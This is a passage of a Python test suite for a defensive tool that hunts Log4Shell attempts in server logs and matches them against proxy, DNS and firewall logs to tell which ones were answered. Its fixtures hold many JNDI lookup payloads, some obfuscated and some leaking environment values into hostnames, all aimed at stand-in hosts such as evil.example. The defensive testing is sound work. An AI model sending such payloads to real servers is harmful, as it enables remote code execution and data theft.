        self.assertEqual((len(rows), len(s["callbacks"])), (5000, 5000))

    def test_matches_of_patterns(self):
        self.put("p/patterns.tsv", "loader\tclassLoader\tclass loader\tクラスローダー\n")
        for n in (4095, 4096, 4097):
            for text in ("classLoader\n" * n, "classLoader " * n + "\nclassLoader\n"):
                _, rows, s = hunt("--profile", os.path.join(self.dir, "p/"), self.put("x.log", text))
                self.assertEqual([r["line"] for r in rows], list(range(1, n + 1)) if text.startswith("classLoader\n") else [1, 2])

    def test_patterns(self):
        for n in (63, 64, 65):
            self.put("p/patterns.tsv", "".join("p%d\txq%dq\ta\tb\n" % (i, i) for i in range(n)))
            r = run("--profile", os.path.join(self.dir, "p/"), self.put("x.log", "xq62q\n"))
            self.assertEqual(r.returncode, 2 if n > 64 else 0)

    def test_indicators(self):
        clean, out = self.put("clean.log", access()), self.put("out.log", OUTBOUND["squid"])
        for n in ((8 << 20) - 1, 8 << 20, (8 << 20) + 1):
            text = "203.0.113.9\n"
            r = run("--outbound", out, "--ioc", self.put("ioc.txt", text + "#" * (n - len(text))), clean)
            self.assertEqual(r.returncode, 2 if n > 8 << 20 else 0, r.stderr)
            if n > 8 << 20:
                self.assertIn("ioc.txt", r.stderr.decode())

    def test_jobs(self):
        path = self.put("x.log", PAYLOAD)
        for n, code in (("1", 0), ("63", 0), ("64", 0), ("65", 2), ("0", 2)):
            self.assertEqual(run("--jobs", n, path).returncode, code, n)

    def test_list_of_what_was_not_read(self):
        """All of it is counted; as much as fits is named."""
        cut = gzip.compress(access().encode() * 9)[:-9]
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as t:
            for i in range(9000):
                info = tarfile.TarInfo("%08d-" % i + "n" * 240)
                info.size = len(cut)
                t.addfile(info, io.BytesIO(cut))
        r = run("--format", "jsonl", self.put("x.tar", out.getvalue()))
        s = json.loads(r.stdout.splitlines()[-1])["summary"]
        self.assertEqual((r.returncode, s["incomplete_count"]), (2, 9000))
        self.assertLess(len(s["incomplete"]), 9000)
        self.assertGreater(len(s["incomplete"]), 6000)
        text = run(os.path.join(self.dir, "x.tar")).stdout.decode()
        self.assertNotIn("NOTHING FOUND", text)


class Follow(Case):
    def wait_for(self, p, n):
        lines = []
        deadline = time.monotonic() + 20
        while len(lines) < n and time.monotonic() < deadline:
            line = p.stdout.readline()
            if line:
                lines.append(json.loads(line))
        return lines

    def begin(self, *args, stdin=None):
        p = subprocess.Popen([TOOL, "hunt", "--follow", "--format", "jsonl", *args], stdin=stdin, stdout=subprocess.PIPE, env=env_of())
        self.addCleanup(p.stdout.close)
        self.addCleanup(p.wait, 20)
        self.addCleanup(p.kill)
        return p

    def end(self, p):
        p.send_signal(signal.SIGTERM)
        rest = [json.loads(x) for x in p.stdout.read().splitlines()]
        self.assertIn(p.wait(20), (0, 2))
        return rest[:-1], rest[-1]["summary"]

    def hosts(self, rows):
        return [(r["callback"]["host"], r["line"]) for r in rows]

    def attempt(self, name):
        return access("${jndi:ldap://%s.example/a}" % name)

    def test_copy_and_truncate(self):
        """As logrotate's copytruncate does it; the log may have grown beyond its old length since."""
        path = self.put("x.log", self.attempt("one") + self.attempt("two")[:-1])  # the last line is unfinished
        p = self.begin(path)
        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("one.example", 1)])
        shutil.copy(path, path + ".1")
        os.truncate(path, 0)
        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("two.example", 2)])
        with open(path, "a") as f:
            f.write(self.attempt("three") + access() * 2)
        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("three.example", 1)])
        time.sleep(0.2)  # it has read on and sleeps
        p.send_signal(signal.SIGSTOP)
        with open(path, "r+") as f:  # truncated and longer than before when it is looked at
            f.truncate(0)
            f.write(access(at="14/Dec/2021:00:00:00 +0900") * 20 + self.attempt("four"))
        p.send_signal(signal.SIGCONT)
        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("four.example", 21)])
        self.assertEqual(self.end(p)[0], [])

    def test_packed_after_rotation(self):
        path = self.put("x.log", self.attempt("one"))
        p = self.begin(path)
        self.wait_for(p, 1)
        with open(path, "a") as f:
            f.write(self.attempt("two"))
        os.rename(path, path + ".1")
        subprocess.run(["gzip", path + ".1"], check=True)
        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("two.example", 2)])
        self.put("x.log", self.attempt("three"))
        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("three.example", 1)])
        self.assertEqual(self.end(p)[1]["incomplete_count"], 0)

    def test_rotated_twice_while_it_is_stopped(self):
        path = self.put("x.log", self.attempt("one"))
        p = self.begin(path)
        self.wait_for(p, 1)
        time.sleep(0.2)  # it has read on and sleeps
        p.send_signal(signal.SIGSTOP)
        with open(path, "a") as f:
            f.write(self.attempt("two"))
        os.rename(path, path + ".1")
        self.put("x.log", self.attempt("three"))
        os.rename(path + ".1", path + ".2")
        os.rename(path, path + ".1")
        self.put("x.log", self.attempt("four"))
        p.send_signal(signal.SIGCONT)
        self.assertEqual(self.hosts(self.wait_for(p, 3)), [("two.example", 2), ("three.example", 1), ("four.example", 1)])
        self.end(p)

    def test_deleted_and_back(self):
        path = os.path.join(self.dir, "x.log")
        p = self.begin(path)
        time.sleep(0.3)
        self.put("x.log", self.attempt("one"))  # it was not there yet
        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("one.example", 1)])
        os.unlink(path)
        time.sleep(0.7)
        self.put("x.log", access() + self.attempt("two"))
        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("two.example", 2)])
        s = self.end(p)[1]
        self.assertEqual([i["path"] for i in s["incomplete"]], [path])

    def test_the_last_line_at_the_end(self):
        path = self.put("x.log", self.attempt("one") + self.attempt("two")[:-1])
        p = self.begin(path)
        self.wait_for(p, 1)
        time.sleep(0.7)
        rows, s = self.end(p)
        self.assertEqual((self.hosts(rows), s["lines"]), ([("two.example", 2)], 2))

    def test_wide_text_that_comes_byte_by_byte(self):
        text = ("\ufeff" + self.attempt("one")).encode("utf-32-le")
        path = self.put("x.log", text[:1])
        p = self.begin(path)
        with open(path, "ab", buffering=0) as f:
            for n in range(1, 5):
                time.sleep(0.6)
                f.write(text[n:n + 1])
            f.write(text[5:])
        time.sleep(0.8)
        rows, s = self.end(p)
        self.assertEqual([i["path"] for i in s["incomplete"]], [path])
        self.assertIn("UTF-32", s["incomplete"][0]["reason"])

    def test_a_writer_that_never_stops(self):
        """It neither keeps the others from being read nor the search from ending."""
        path = self.put("x.log", "")
        yes = subprocess.Popen(["yes", "${jndi:ldap://h/${${a:-x}"], stdout=subprocess.PIPE)
        self.addCleanup(yes.wait)
        self.addCleanup(yes.kill)
        p = self.begin("--least", "reaches", "-", path, stdin=yes.stdout)
        yes.stdout.close()
        time.sleep(0.5)
        self.put("x.log", self.attempt("one"))
        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("one.example", 1)])
        self.assertEqual(self.end(p)[0], [])

    def test_what_cannot_be_opened_after_rotation(self):
        path = self.put("x.log", self.attempt("one"))
        p = self.begin(path)
        self.wait_for(p, 1)
        os.rename(path, path + ".1")
        os.symlink("x.log", path)  # leads to itself
        time.sleep(1.3)
        os.unlink(path)
        os.symlink("x.log.2", path)
        self.put("x.log.2", self.attempt("two"))
        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("two.example", 1)])
        self.put("x.log.3", self.attempt("three"))
        os.symlink("x.log.3", path + ".new")
        os.replace(path + ".new", path)
        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("three.example", 1)])
        rows, s = self.end(p)
        self.assertEqual([(i["path"], "symbolic links" in i["reason"]) for i in s["incomplete"]], [(path, True)])

    def test_columns_that_are_named_later(self):
        path = self.put("x.log", "#Software: Microsoft Internet Information Services 10.0\n")
        p = self.begin(path)
        time.sleep(0.8)
        with open(path, "a") as f:
            f.write("#Fields: date time c-ip cs-uri-query\n2021-12-13 13:40:03 198.51.100.23 %s\n" % PAYLOAD)
        row, = self.wait_for(p, 1)
        self.assertEqual((row["client"], row["time"]), ("198.51.100.23", "2021-12-13T13:40:03.000Z"))
        self.end(p)

    def test_what_is_not_followed_is_said(self):
        packed = self.put("x.gz", gzip.compress(self.attempt("one").encode()))
        p = self.begin(packed, self.dir)
        time.sleep(0.7)
        rows, s = self.end(p)
        self.assertEqual(rows, [])
        self.assertEqual(sorted(i["path"] for i in s["incomplete"]), sorted([packed, self.dir]))
        self.assertIn("without --follow", json.dumps(s["incomplete"]))

    def test_rotation_and_truncation(self):
        path = self.put("x.log", access("${jndi:ldap://one.example/a}"))
        p = subprocess.Popen([TOOL, "hunt", "--follow", "--format", "jsonl", "--no-summary", path], stdout=subprocess.PIPE,
                             env=env_of())
        self.addCleanup(p.stdout.close)
        try:
            self.assertEqual(self.wait_for(p, 1)[0]["callback"]["host"], "one.example")
            with open(path, "a") as f:
                f.write(access() + access("${jndi:ldap://two.example/a}"))
            self.assertEqual(self.wait_for(p, 1)[0]["line"], 3)
            with open(path, "a") as f:
                f.write(access("${jndi:ldap://three.example/a}")[:-1])  # unfinished when it is rotated
            os.rename(path, path + ".1")
            self.put("x.log", access("${jndi:ldap://four.example/a}"))
            got = self.wait_for(p, 2)
            self.assertEqual([(r["callback"]["host"], r["line"]) for r in got], [("three.example", 4), ("four.example", 1)])
            os.truncate(path, 0)
            time.sleep(1.2)
            with open(path, "a") as f:
                f.write(access() + access("${jndi:ldap://five.example/a}"))
            self.assertEqual([(r["callback"]["host"], r["line"]) for r in self.wait_for(p, 1)], [("five.example", 2)])
        finally:
            p.send_signal(signal.SIGTERM)
            self.assertEqual(p.wait(20), 0)


OUTBOUND = {
    "squid": "1639402806.120     40 10.20.3.11 TCP_TUNNEL/200 39 CONNECT 203.0.113.9:1389 - HIER_DIRECT/203.0.113.9 -\n",
    "packet": "Dec 13 22:40:06 fw kernel: ACCEPT IN=eth1 OUT=eth0 SRC=10.20.3.11 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=5 DPT=1389\n",
    "zeek": "#separator \\x09\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tconn_state\n"
            "1639402806.1\tC1\t10.20.3.11\t5\t203.0.113.9\t1389\ttcp\tSF\n",
    "csv": "時刻,送信元,宛先,宛先ポート,動作\n2021-12-13 22:40:06,10.20.3.11,203.0.113.9,1389,許可\n",
    "csv2": '"Receive Time";"Source Address";"Destination Address";"Destination Port";"Action"\n'
            '"2021/12/13 22:40:06";"10.20.3.11";"203.0.113.9";"1389";"allow"\n',
}


V4, V6 = PAYLOAD, "${jndi:ldap://[2001:DB8::9]:1389/a}"
N, E = "${jndi:ldap://EVIL.Example.:1389/a}", "${jndi:ldap://${env:USER}.q7.example/a}"
OUTBOUND_LINES = [  # who calls, and the log that shows it answered
    ('squid ip',V4,"1639402806.120     40 10.20.3.11 TCP_TUNNEL/200 39 CONNECT 203.0.113.9:1389 - HIER_DIRECT/203.0.113.9 -\n"),
    ('squid get name',N,"1639402806.120     40 10.20.3.11 TCP_MISS/200 39 GET http://evil.EXAMPLE:1389/a.class - HIER_DIRECT/203.0.113.9 application/java\n"),
    ('squid v6',V6,"1639402806.120     40 10.20.3.11 TCP_TUNNEL/200 39 CONNECT [2001:db8:0::9]:1389 - HIER_DIRECT/2001:db8::9 -\n"),
    ('squid peer',V4,"1639402806.120     40 10.20.3.11 TCP_MISS/200 39 GET http://other.example/a - HIER_DIRECT/203.0.113.9 x\n"),
    ('squid v6 client',V4,"1639402806.120     40 fd00::11 TCP_MISS/200 39 GET http://203.0.113.9/a - HIER_DIRECT/203.0.113.9 x\n"),
    ('dnsmasq',N,"Dec 13 22:40:06 ns dnsmasq[7]: query[AAAA] evil.example from 10.20.3.11\n"),
    ('dnsmasq env',E,"Dec 13 22:40:06 dnsmasq[7]: query[A] ROOT.Q7.example from fd00::11\n"),
    ('dnsmasq extra',N,"Dec 13 22:40:06 dnsmasq[7]: 12 10.20.3.11/53211 query[A] evil.example from 10.20.3.11\n"),
    ('bind',N,"13-Dec-2021 22:40:06.120 queries: info: client @0x7f 10.20.3.11#5353 (evil.example): query: evil.example IN A +E(0)K (10.0.0.1)\n"),
    ('bind syslog',N,"Dec 13 22:40:06 ns named[7]: client 10.20.3.11#5353 (evil.example): view internal: query: EVIL.example IN AAAA + (10.0.0.1)\n"),
    ('unbound',N,"[1639402806] unbound[7:0] info: 10.20.3.11 evil.example. A IN\n"),
    ('unbound reply',N,"[1639402806] unbound[7:0] info: 10.20.3.11 evil.example. A IN NOERROR 0.03 0 60\n"),
    ('unbound syslog',N,"Dec 13 22:40:06 ns unbound[7]: [7:0] info: fd00::11 EVIL.example. A IN\n"),
    ('unbound query:',N,"Dec 13 22:40:06 ns unbound: [7:0] query: 10.20.3.11 evil.example. A IN\n"),
    ('zeek conn',V4,"#separator \\x09\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tconn_state\n#types\ttime\tstring\n1639402806.1\tC1\t10.20.3.11\t5\t203.0.113.9\t1389\ttcp\tSF\n"),
    ('zeek conn v6',V6,"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tconn_state\n1639402806.1\tC1\tfd00::1\t5\t2001:db8::9\t1389\ttcp\tSF\n"),
    ('zeek dns',N,"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tquery\tanswers\n1639402806.1\tC1\t10.20.3.11\t5\t10.0.0.1\t53\tudp\tevil.example\t-\n"),
    ('zeek dns rcode',N,"#fields\tts\tuid\tid.orig_h\tid.resp_h\tquery\trcode_name\tanswers\n1639402806.1\tC1\t10.20.3.11\t10.0.0.1\tevil.example\tNXDOMAIN\t-\n"),
    ('zeek json conn',V4,json.dumps({"ts":1639402806.1,"uid":"C1","id.orig_h":"10.20.3.11","id.orig_p":5,"id.resp_h":"203.0.113.9","id.resp_p":1389,"proto":"tcp","conn_state":"SF"})+"\n"),
    ('zeek json dns',N,json.dumps({"ts":1639402806.1,"uid":"C1","id.orig_h":"10.20.3.11","id.orig_p":5,"id.resp_h":"10.0.0.1","id.resp_p":53,"query":"evil.example","answers":["203.0.113.9"]})+"\n"),
    ('zeek json iso',V4,json.dumps({"ts":"2021-12-13T13:40:06.1Z","id.orig_h":"10.20.3.11","id.resp_h":"203.0.113.9","id.resp_p":1389,"conn_state":"SF"})+"\n"),
    ('iptables',V4,"Dec 13 22:40:06 fw kernel: [123.4] ACCEPT IN=eth1 OUT=eth0 SRC=10.20.3.11 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=5 DPT=1389\n"),
    ('ip6tables',V6,"Dec 13 22:40:06 fw kernel: OUT= IN=eth1 OUT=eth0 SRC=fd00:0000:0000:0000:0000:0000:0000:0011 DST=2001:0db8:0000:0000:0000:0000:0000:0009 LEN=60 PROTO=TCP SPT=5 DPT=1389\n"),
    ('nft',V4,"2021-12-13T22:40:06.1+09:00 fw kernel: nft-out: IN= OUT=eth0 SRC=10.20.3.11 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=5 DPT=1389\n"),
    ('ufw allow',V4,"Dec 13 22:40:06 fw kernel: [UFW ALLOW] IN= OUT=eth0 SRC=10.20.3.11 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=5 DPT=1389\n"),
    ('csv',V4,"date,time,src,dst,dport,action\n2021-12-13,22:40:06,10.20.3.11,203.0.113.9,1389,allow\n"),
    ('csv port in dst',V4,"time,src,dst,action\n2021-12-13 22:40:06,10.20.3.11:5,203.0.113.9:1389,allow\n"),
    ('csv v6',V6,"time,src,dst,action\n2021-12-13 22:40:06,fd00::1,[2001:db8::9]:1389,allow\n"),
    ('csv url',N,"time,client,url\n2021-12-13 22:40:06,10.20.3.11,http://evil.example:1389/a\n"),
    ('csv paloalto',V4,'"Receive Time","Source address","Destination address","Destination Port","Action"\n"2021/12/13 22:40:06","10.20.3.11","203.0.113.9","1389","allow"\n'),
    ('csv fortinet epoch',V4,'eventtime,srcip,dstip,dstport,action\n1639402806000000000,10.20.3.11,203.0.113.9,1389,accept\n'),
    ('csv splunk _time',V4,'_time,src_ip,dest_ip,dest_port,action\n2021-12-13T22:40:06.000+09:00,10.20.3.11,203.0.113.9,1389,allowed\n'),
    ('csv hidden src port',V4,'StartTime,SrcAddr,DstAddr,DstPort,Action\n2021-12-13 22:40:06,10.20.3.11,203.0.113.9,1389,Permit\n'),
    ('csv checkpoint',V4,'"Time","Source","Destination","Service","Action"\n"2021-12-13T13:40:06Z","10.20.3.11","203.0.113.9","1389","Accept"\n'),
    ('aws vpc flow header',V4,'version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\n2 123 eni-1 10.20.3.11 203.0.113.9 5 1389 6 1 60 1639402806 1639402860 ACCEPT OK\n'),
    ('windows firewall',V4,'#Version: 1.5\n#Software: Microsoft Windows Firewall\n#Time Format: Local\n#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags\n\n2021-12-13 22:40:06 ALLOW TCP 10.20.3.11 203.0.113.9 5 1389 0 -\n'),
    ('name resolved',"${jndi:ldap://evil.example/a}","Dec 13 22:40:05 ns dnsmasq[7]: reply evil.example is 203.0.113.9\nDec 13 22:40:06 fw kernel: ACCEPT IN=eth1 OUT=eth0 SRC=10.20.3.11 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=5 DPT=1389\n"),
    ('many answers',"${jndi:ldap://evil.example/a}",'#fields\tts\tid.orig_h\tid.resp_h\tquery\tanswers\n1639402800.1\t-\t10.0.0.1\tevil.example\tcdn.example,192.0.2.1,203.0.113.9\n#fields\tts\tid.orig_h\tid.resp_h\tid.resp_p\tconn_state\n1639402806.1\t10.20.3.11\t203.0.113.9\t1389\tSF\n'),
]


class Outbound(Case):
    def sight(self, payload, log, *args, name="out.log"):
        path = self.put("a.log", access(payload))
        out = self.put(name, log)
        os.utime(out, (1639500000, 1639500000))
        code, rows, s = hunt("--outbound", out, *args, path)
        self.assertEqual((code, len(rows)), (0, 1))
        return rows[0], s

    def test_formats(self):
        for name, log in OUTBOUND.items():
            row, s = self.sight(PAYLOAD, log)
            self.assertEqual(row["verdict"], "called-back", name)
            self.assertIn("10.20.3.11", row["answer"], name)
            self.assertEqual(s["callbacks_answered"], 1)

    def test_lines_of_each(self):
        """IPv6, upper case, a dot at the end, ports, names behind which another address stands."""
        for name, payload, log in OUTBOUND_LINES:
            row, s = self.sight(payload, log)
            self.assertEqual((row["verdict"], s["incomplete_count"]), ("called-back", 0), name)
            self.assertTrue("10.20.3.11" in row["answer"] or "from fd00:" in row["answer"], (name, row["answer"]))
            self.assertIn("2021-12-13T22:40:06+09:00", row["answer"], name)
            other = payload.replace("203.0.113.9", "203.0.113.99").replace("DB8::9", "DB8::99").replace("EVIL", "eviL2").replace("evil", "evil2").replace("q7", "q8")
            self.assertEqual(self.sight(other, log)[0]["verdict"], "reaches", name)

    def test_a_name_below_a_name(self):
        """What ${env:…} stands before is looked for besides the name itself, whichever comes first."""
        log = "Dec 13 22:40:06 ns dnsmasq[7]: query[A] root.q7.example from 10.20.3.11\n"
        path = self.put("a.log", access("${jndi:ldap://q7.example/a}") + access(E))
        out = self.put("out.log", log)
        os.utime(out, (1639500000, 1639500000))
        _, rows, _ = hunt("--outbound", out, path)
        self.assertEqual([r["verdict"] for r in rows], ["reaches", "called-back"])

    def test_what_only_the_server_knows(self):
        """An invented value is never told, and whatever name was asked for in its place is the call-back."""
        asked = "Dec 13 22:40:06 ns dnsmasq[7]: query[A] %s from 10.20.3.11\n"
        for inside, host, name, other in (
                ("${java:version}.evil.example", "${java:version}.evil.example", "17-0-1.evil.example", "java.notevil.example"),
                ("x-${lower:${java:os}}.evil.example", "x-${java:os}.evil.example", "x-linux.evil.example", "evil.example"),
                ("${env:HOME}${sys:a}.evil.co.jp", "${env:home}${sys:a}.evil.co.jp", "root.evil.co.jp", "evil2.co.jp"),
                ("${date:yyyy}.${hostName}.evil.example", "${date:yyyy}.${hostname}.evil.example", "2021.web1.evil.example", "x.example"),
                ("${env:USER:-none}.evil.example", "${env:user:-none}.evil.example", "root.evil.example", "root.evil2.example"),
                ("a.${event:ThreadName}.evil.example", "a.${event:threadname}.evil.example", "a.main.evil.example", "main.example"),
                # a default that is all there is, or hides a piece of what is there
                ("${env:NaN:-evil.example}", "${env:nan:-evil.example}", "evil.example", "x.evil.example"),
                ("${env:NaN:-ev}il.example", "${env:nan:-ev}il.example", "evil.example", "devil.example"),
                ("${env:NaN:-evil.example:1389/a}", "evil.example", "evil.example", "x.evil.example"),
                ("${env:NaN:-e}vil.example", "evil.example", "evil.example", "x.evil.example"),
                ("${::-e}v${lower:I}${date:'l'}.example", "evil.example", "evil.example", "x.evil.example")):
            payload = "${jndi:ldap://" + inside + "/a}"
            row, s = self.sight(payload, asked % name)
            self.assertEqual((row["verdict"], row["callback"]["host"], list(s["callbacks"])), ("called-back", host, [host]), inside)
            self.assertNotIn("17.0", row["resolves_to"])
            self.assertEqual(self.sight(payload, asked % other)[0]["verdict"], "reaches", inside)

    def test_nothing_of_the_host_is_known(self):
        """Then nothing can be looked for, and least of all what anybody has names below."""
        for inside in ("${java:version}", "${env:A}.example", "${env:A}.co.jp", "x.${env:A}", "${env:A}.113.9", "evil.example${env:A}"):
            payload = "${jndi:ldap://" + inside + "/a}"
            out = os.path.join(self.dir, "ioc.csv")
            row, s = self.sight(payload, OUTBOUND["packet"], "--ioc-out", out)
            self.assertEqual((row["verdict"], row["callback"]["host"]), ("reaches", inside.lower()))
            roles = [r["role"] for r in csv.DictReader(io.StringIO(read_text(out), newline=""))]
            self.assertEqual(roles, ["attacking client"], inside)

    def test_decoys_do_not_make_an_invented_host_known(self):
        """More variables of the server than are followed, before the lookup and within it."""
        many = "${env:a}" * 400
        for payload, host in ((many + "${jndi:ldap://${java:version}.evil.example/a}", "${java:version}.evil.example"),
                              ("${jndi:ldap://${java:version}.evil.example/" + many + "}", "${java:version}.evil.example"),
                              ("$${jndi:ldap://${java:version}.evil.example/} " + many + "${q}", "${...}"),
                              ("${jndi:ldap://" + many + "${java:version}.evil.example/}", "${...}")):
            _, rows, _ = hunt(self.put("a.log", payload + "\n"))
            self.assertEqual((rows[0]["verdict"], rows[0]["callback"]["host"]), ("reaches", host), payload[-60:])

    def test_names_below_an_indicator(self):
        """*.evil.example, as this tool and others write it, is any name below."""
        clean = self.put("a.log", access())
        out = self.put("out.log", "Dec 13 22:40:06 ns dnsmasq[7]: query[A] a.b.evil.example from 10.20.3.11\n")
        os.utime(out, (1639500000, 1639500000))
        csv_out, stix_out = os.path.join(self.dir, "own.csv"), os.path.join(self.dir, "own.json")
        attempt = self.put("b.log", access("${jndi:ldap://${java:version}.evil.example/a}"))
        for own in (csv_out, stix_out):
            self.assertEqual(run("--ioc-out", own, attempt).returncode, 0)
        for given in ("*.evil.example", self.put("l.txt", "*.evil[.]example\n"), self.put("s.txt", ".evil.example\n"), csv_out, stix_out):
            code, rows, s = hunt("--outbound", out, "--ioc", given, clean)
            self.assertEqual((code, [(r["verdict"], r["field"], r["callback"]["host"]) for r in rows]),
                             (0, [("called-back", "indicator", "*.evil.example")]), given)
        # what an attempt leads to is told there, not once more
        _, rows, _ = hunt("--outbound", out, "--ioc", csv_out, attempt)
        self.assertEqual([(r["verdict"], r["field"]) for r in rows], [("called-back", "User-Agent")])

    def test_names(self):
        logs = ("Dec 13 22:40:06 ns dnsmasq[7]: query[A] x1.probe.example from 10.20.3.11\n",
                "13-Dec-2021 22:40:06.120 client @0x7f 10.20.3.11#5353 (x1.probe.example): query: x1.probe.example IN A + (10.0.0.1)\n",
                "[1639402806] unbound[7:0] info: 10.20.3.11 x1.probe.example. A IN\n",
                "#fields\tts\tid.orig_h\tid.resp_h\tquery\tanswers\n1639402806.1\t10.20.3.11\t10.0.0.1\tX1.probe.example\t-\n")
        for log in logs:
            row, _ = self.sight("${jndi:dns://x1.probe.example}", log)
            self.assertEqual(row["verdict"], "called-back", log)
            row, _ = self.sight("${jndi:ldap://${env:USER}.x1.probe.example/a}", log.replace("x1.probe", "root.x1.probe").replace("X1.", "bob.x1."))
            self.assertEqual(row["verdict"], "called-back", log)
            row, _ = self.sight("${jndi:dns://other.example}", log)
            self.assertEqual(row["verdict"], "reaches", log)

    def test_blocked_earlier_and_elsewhere(self):
        row, _ = self.sight(PAYLOAD, OUTBOUND["packet"].replace("ACCEPT", "DROP"))
        self.assertEqual(row["verdict"], "reaches")
        self.assertTrue(row["answer"].startswith("tried and blocked"))
        row, _ = self.sight(PAYLOAD, OUTBOUND["packet"].replace("22:40:06", "12:40:06"))
        self.assertEqual(row["verdict"], "reaches")  # ten hours before the attempt
        row, _ = self.sight(PAYLOAD, OUTBOUND["packet"].replace("DST=203.0.113.9", "DST=203.0.113.90"))
        self.assertEqual(row["verdict"], "reaches")

    def test_a_name_and_its_address(self):
        dns = "Dec 13 22:40:05 ns dnsmasq[7]: reply evil.example is 203.0.113.9\n"
        path = self.put("a.log", access("${jndi:ldap://evil.example/a}"))
        fw, ns = self.put("fw.log.gz", gzip.compress(OUTBOUND["packet"].encode())), self.put("ns.log", dns)
        for p in (fw, ns):
            os.utime(p, (1639500000, 1639500000))
        _, rows, _ = hunt("--outbound", fw, "--outbound", ns, path)
        self.assertEqual(rows[0]["verdict"], "called-back")
        self.assertIn("fw.log.gz:1", rows[0]["answer"])

    def test_called_back_first_for_people(self):
        out = self.put("out.log", OUTBOUND["squid"])
        path = self.put("a.log", access("${jndi:ldap://h.example/a}") + access(PAYLOAD))
        r = run("--outbound", out, path)
        self.assertTrue(r.stdout.decode().startswith("CALLED BACK"), r.stdout)
        self.assertIn("1 of 2 call-backs were answered", r.stdout.decode())

    def test_indicators_in(self):
        """Who went to what a list names is told, with no attempt in any log of ours."""
        clean = self.put("a.log", access())
        out = self.put("out.log", OUTBOUND["squid"] + OUTBOUND["squid"].replace("203.0.113.9", "198.51.100.99"))
        lists = {"l.txt": "# addresses\n198.51.100.99\n", "l.csv": "type,value\nip,198[.]51[.]100[.]99\n",
                 "l.json": json.dumps({"objects": [{"pattern": "[ipv4-addr:value = '198.51.100.99']"}]}),
                 "u.txt": "hxxp://x/\nldap://198.51.100.99:1389/a\n"}
        for given in [self.put(n, t) for n, t in lists.items()] + ["198.51.100.99"]:
            code, rows, s = hunt("--outbound", out, "--ioc", given, clean)
            self.assertEqual([(r["verdict"], r["file"], r["line"], r["client"], r["callback"]["host"]) for r in rows],
                             [("called-back", out, 2, "10.20.3.11", "198.51.100.99")], given)
            self.assertEqual((code, s["verdicts"]["called-back"]), (0, 1))
        self.assertEqual(hunt("--outbound", out, "--ioc", "192.0.2.200", clean)[0], 1)

    def test_lists_as_they_come(self):
        """In UTF-16 as Windows saves them, without a scheme, with NULs and long lines; what cannot be looked for is said."""
        clean = self.put("a.log", access())
        out = self.put("out.log", OUTBOUND["squid"].replace("203.0.113.9", "evil.example"))
        text = "type;value\r\nurl;evil.example/a.class\r\n"
        for data in (text.encode("utf-16"), text.encode("utf-16-be"), text.encode("utf-32"), text.encode("utf-32-le"),
                     b"x" * 3000000 + b"\0\n\0" + text.encode() + b"\0" * 1000, b"evil.example/a"):
            code, rows, s = hunt("--outbound", out, "--ioc", self.put("l.txt", data), clean)
            self.assertEqual([r["callback"]["host"] for r in rows], ["evil.example"], data[:40])
            self.assertEqual(s["incomplete_count"], 0)
        path = self.put("l.txt", "203.0.113.0/24\n2001:db8::/32\n192.0.2.1/32\n")
        code, rows, s = hunt("--outbound", out, "--ioc", path, clean)
        self.assertEqual((code, [i["path"] for i in s["incomplete"]]), (2, ["203.0.113.0/24", "2001:db8::/32"]))
        path = self.put("l.txt", "5f4dcc3b5aa765d61d8327deb882cf99\n")
        code, rows, s = hunt("--outbound", out, "--ioc", path, clean)
        self.assertEqual((code, s["incomplete"]), (2, [{"path": path, "reason": "no address and no name stands in it"}]))

    def test_more_indicators_than_are_looked_for(self):
        clean = self.put("a.log", access())
        out = self.put("out.log", OUTBOUND["squid"])
        path = self.put("l.txt", "".join("h%d.example\n" % i for i in range(500000)))
        rows, s = self.limited(clean, "--outbound", out, "--ioc", path)
        self.assertEqual([i["reason"] for i in s["incomplete"]],
                         ["480000 call-backs or indicators were not looked for: too many, or too long"])

    def test_hostile_outbound_logs(self):
        """A line of 50 MB, NULs, a million hosts, and columns without end hide nothing and take no memory."""
        path = self.put("a.log", access(PAYLOAD))
        for before in ("x" * 50000000 + "\n", "\0" * 100000 + "\n", "".join(OUTBOUND["squid"].replace("203.0.113.9", "h%d.example" % i) for i in range(300000))):
            rows, s = self.limited(path, "--outbound", self.put("out.log", before + OUTBOUND["squid"]))
            self.assertEqual((rows[0]["verdict"], s["incomplete_count"]), ("called-back", 0), before[:20])
        head = "time,src,dst,action" + ",dst" * 20000
        out = self.put("out.log", head + "\n2021-12-13 22:40:06,10.20.3.11,203.0.113.9,allow\n")
        rows, s = self.limited(path, "--outbound", out)
        self.assertEqual(rows[0]["verdict"], "called-back")

    def test_a_pipe_is_not_read_twice(self):
        """An address that is learnt from it may stand before: that is said, and nobody waits for a second writer."""
        path = self.put("a.log", access("${jndi:ldap://evil.example/a}"))
        log = OUTBOUND["packet"] + "Dec 13 22:40:07 ns dnsmasq[7]: reply evil.example is 203.0.113.9\n"
        code, rows, s = hunt("--outbound", self.put("out.log", log), path)
        self.assertEqual((rows[0]["verdict"], s["incomplete_count"]), ("called-back", 0))
        with open(self.put("out.gz", gzip.compress(log.encode())[:-8])) as f:
            code, rows, s = hunt("--outbound", "-", path, stdin=f)
        self.assertEqual((rows[0]["verdict"], s["incomplete_count"]), ("called-back", 1))
        code, rows, s = hunt("--outbound", "-", path, input=log.encode())
